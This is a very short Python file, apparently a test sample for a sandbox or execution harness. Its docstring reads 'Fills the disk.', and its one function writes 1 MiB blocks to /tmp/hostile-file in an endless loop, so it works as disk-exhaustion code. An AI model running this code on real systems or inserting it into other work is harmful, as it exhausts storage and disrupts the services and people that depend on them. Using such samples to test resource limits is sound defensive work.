"""Fills the disk."""


def f(x):
    with open("/tmp/hostile-file", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
